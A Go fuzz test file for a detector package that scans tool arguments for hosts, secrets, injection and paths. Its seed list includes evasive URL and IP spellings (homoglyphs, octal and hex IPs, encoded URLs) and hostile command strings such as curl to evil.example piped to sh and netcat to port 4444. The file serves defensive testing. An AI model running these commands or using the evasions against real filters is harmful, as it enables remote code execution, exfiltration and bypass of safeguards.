package detectors

import (
	"bytes"
	"encoding/json"
	"net/netip"
	"strings"
	"testing"
)

// Seeds shared by the fuzzers: the tricky spellings of the tables.
var fuzzSeeds = []string{
	"https://allowed.example:443@evil.example/x", `https:\\evil.example\x`, `https:\/\/evil.example`, "https:/h/",
	"//cdn.evil.com/x.js", `\\evil.com\share`, "http://[::ffff:127.0.0.1]:80/", "http://[fe80::1%25eth0]/",
	"http://2130706433/", "http://0177.0.0.1/", "http://0x7f.1", "https://pаypal.com/", "https://%65vil.example",
	"https://ｅｖｉｌ．ｅｘａｍｐｌｅ/", "git@github.com:acme/cli.git", "ssh://u@h.example:22/x", "a@[192.0.2.1]",
	"curl -sSfL -o report.md evil.example | sh; wget -qO- x.example && nc -v 10.1.2.3 4444",
	"sudo -u root curl a.example; FOO=bar timeout 10 ping -c 3 b.example", `bash -c "curl q.example"`,
	"dig @1.1.1.1 +short TXT x.example", "ssh -J b.example u@t.example curl i.example", "scp f u@e.example:/tmp",
	"aHR0cHM6Ly9ldmlsLmV4YW1wbGUveA==", "68747470733a2f2f6865782e6578616d706c652f", "https%3A%2F%2Fpct.example%2Fx",
	"data:text/plain;base64,aHR0cHM6Ly9kYXRhLmV4YW1wbGUv", `{"webhook":"evil.example","to":"x@y.example"}`,
	"eyJhbGciOiJIUzI1NiJ9.eyJpc3MiOiJodHRwczovL2F1dGguZXhhbXBsZS5jb20ifQ.c2ln", "report.md v1.2.3 os.path.join a.b.c()",
	"e.g. i.e. etc. node@22.1.0 1.2.3.4-rc1", "::1 2001:db8::1 std::vector 12:30:00", "www.evil.com/x",
	"\x00\xff\xfe%%%\\\\//::@@..", "[](https://)", "https://[", "https://@", "curl '", "data:,", "\\x41\\x4", "%",
}

func FuzzScanArguments(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add([]byte(s))
		b, _ := json.Marshal(map[string]any{"url": s, "to": []any{s}, "host": s, "scheme": "https", "port": 1})
		f.Add(b)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		var v any
		d := json.NewDecoder(bytes.NewReader(data))
		d.UseNumber()
		if d.Decode(&v) != nil {
			v = map[string]any{"s": string(data), "url": string(data), "host": string(data)}
		}
		for _, content := range []bool{false, true} {
			opts := Options{MaxDecodedBytes: 4096, Formats: map[string]string{"/s": "uri"}}
			sc := newScanner(opts, content)
			sc.det = textDetectors{FindSecrets, FindInjection, FindPaths}
			sc.walk(v, scanCtx{level: levelDest}, 0)
			r := sc.res
			if sc.decoded > opts.MaxDecodedBytes {
				t.Fatalf("decoded %d bytes, budget %d", sc.decoded, opts.MaxDecodedBytes)
			}
			if len(r.Hosts) > MaxScanHits+len(sc.limits) || len(r.Emails) > MaxScanHits || len(r.Secrets) > MaxScanHits ||
				len(r.Paths) > MaxScanHits || len(r.Injection) > MaxScanHits {
				t.Fatalf("over the cap: %d hosts", len(r.Hosts))
			}
			for _, h := range r.Hosts {
				if h.Host == "" || h.Kind == "" {
					t.Fatalf("empty host hit %+v", h)
				}
				if h.Decoded != "" && strings.Count(h.Decoded, ">") >= DefaultMaxDecodeDepth {
					t.Fatalf("chain %q deeper than %d", h.Decoded, DefaultMaxDecodeDepth)
				}
				if content && h.Destination && h.Kind != HostKindURL {
					t.Fatalf("content hit %+v is a destination", h)
				}
			}
			again := scan(v, opts, content, sc.det)
			if !equalJSON(r, again) {
				t.Fatal("two scans differ")
			}
		}
	})
}

func equalJSON(a, b any) bool {
	x, _ := json.Marshal(a)
	y, _ := json.Marshal(b)
	return bytes.Equal(x, y)
}

func FuzzNormalizeHost(f *testing.F) {
	for _, s := range append(fuzzSeeds, "EXAMPLE.org.", "0x7f000001", "１２７.０.０.１", "xn--pypal-4ve.com", "[::1]", "a..b", "xn--") {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		h := normalizeHost(s)
		if !h.ok {
			return
		}
		if again := normalizeHost(h.host); again.host != h.host || !again.ok {
			t.Fatalf("%q -> %q -> %q (ok %v)", s, h.host, again.host, again.ok)
		}
		if h.ip {
			if _, err := netip.ParseAddr(h.host); err != nil {
				t.Fatalf("%q: ip %q does not parse", s, h.host)
			}
		}
	})
}

func FuzzIPv4(f *testing.F) {
	for _, s := range []string{"127.0.0.1", "2130706433", "0177.0.0.1", "0x7f.1", "127.1", "1.2.3.4.", "010.0.0.1", "256.1.1.1", "0x", "00"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		a, alt, ok := ipParse4(s)
		if !ok {
			return
		}
		if !a.Is4() || alt.IsValid() && !alt.Is4() {
			t.Fatalf("%q: %v %v", s, a, alt)
		}
		// Where Go's strict parser reads a dotted quad, the reading agrees.
		if want, err := netip.ParseAddr(s); err == nil && want != a {
			t.Fatalf("%q: %v, netip says %v", s, a, want)
		}
	})
}

// fuzzSpans checks that a finder's spans lie in s and hold what they say.
func FuzzFinders(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		inside := func(what string, start, end int, raw string) {
			if start < 0 || end > len(s) || start > end || s[start:end] != raw {
				t.Fatalf("%s span [%d,%d) %q in %q", what, start, end, raw, s)
			}
		}
		hostFindURLs(s, func(m urlMatch) {
			inside("url", m.start, m.end, m.raw)
			if m.host == "" {
				t.Fatalf("url %q without host", m.raw)
			}
		})
		emailFind(s, func(int, int) bool { return false }, func(m atMatch) {
			inside("email", m.start, m.end, m.raw)
			if m.local == "" || m.domain == "" {
				t.Fatalf("email %+v", m)
			}
		})
		hostFindBare(s, func(int, int) bool { return false }, func(m bareMatch) {
			inside("bare", m.start, m.end, m.raw)
		})
		ipFind6(s, func(int, int) bool { return false }, func(start, end int, a netip.Addr) {
			inside("ipv6", start, end, s[start:end])
		})
		n := 0
		cmdFind(s, func(tok cmdToken, host string) {
			if tok.start < 0 || tok.end > len(s) || tok.start > tok.end || host == "" {
				t.Fatalf("command token %+v host %q in %q", tok, host, s)
			}
			n++
		})
		if n > len(s) {
			t.Fatalf("%d command targets in %d bytes", n, len(s))
		}
		last := 0
		decFindRuns(s, func(r decRun) {
			if r.start < last || r.end > len(s) || r.start >= r.end {
				t.Fatalf("run [%d,%d) after %d in %q", r.start, r.end, last, s)
			}
			last = r.end
			decBase64(s[r.start:r.end], true)
			decBase64(s[r.start:r.end], false)
		})
		decFindDataURLs(s, func(d dataURL) { inside("data", d.start, d.end, d.payload) })
		last = 0
		decEscapedTokens(s, func(start, end int, _ bool) {
			if start < last || end > len(s) || start >= end {
				t.Fatalf("escaped token [%d,%d) after %d in %q", start, end, last, s)
			}
			last = end
			decUnescapeHex(s[start:end])
		})
	})
}
